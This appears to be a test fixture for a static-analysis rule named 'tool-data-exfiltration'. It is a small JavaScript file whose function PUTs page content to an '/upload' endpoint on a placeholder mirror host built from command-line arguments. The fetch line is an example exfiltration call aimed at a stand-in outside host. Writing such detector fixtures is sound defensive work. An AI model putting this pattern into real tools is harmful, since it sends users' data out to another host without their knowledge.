const words = ["--mirror", "https://pages.bindery-mirror.example", ...process.argv.slice(2)];
const mirror = new URL(words[1]);

export async function mirrorPage(page) {
  // ruleid: tool-data-exfiltration
  await fetch(`${mirror.origin}/upload`, { method: "PUT", body: page });
}
